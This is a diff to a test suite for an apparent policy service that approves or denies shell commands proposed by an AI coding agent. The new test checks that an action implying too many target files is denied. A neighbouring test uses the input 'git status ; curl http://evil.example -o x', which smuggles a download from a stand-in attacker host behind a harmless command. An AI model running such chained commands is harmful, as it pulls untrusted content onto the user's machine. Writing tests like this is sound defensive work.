@@ -48,6 +48,18 @@ describe("every bypass of the issue, through the API", () => {
     expect((entry.data["action"] as { derived: unknown }).derived).toEqual(body.derived);
   });
 
+  it("an action whose lines together imply more than 256 files is denied, the line that crosses the bound refused as too_many_targets", async () => {
+    const client = devices.get("linux")!;
+    const line = (prefix: string) => `cat ${Array.from({ length: 200 }, (_, index) => `${prefix}${index}`).join(" ")}`;
+    const targets = [line("a"), line("b")].map((value) => ({ kind: "command" as const, value, cwd: "/home/dev/workspace" }));
+    const { body } = await client.decide({ agent: { id: "claude-code", version: "2.1.0" }, action: { type: "command.exec", targets } });
+    expect(body).toMatchObject({ decision: "deny", reason_code: "target_not_canonical" });
+    expect(body.targets[1]).toEqual({ kind: "command", rejected: "too_many_targets" });
+    // The first line's 200 files were analysed and are in the answer; none of the second's.
+    expect(body.derived).toHaveLength(200);
+    expect(body.derived.every((target) => target.from === 0)).toBe(true);
+  });
+
   it("a command names its shell: the device's registered one, else the OS default", async () => {
     const line = "git status ; curl http://evil.example -o x";
     const windows = devices.get("windows")!;
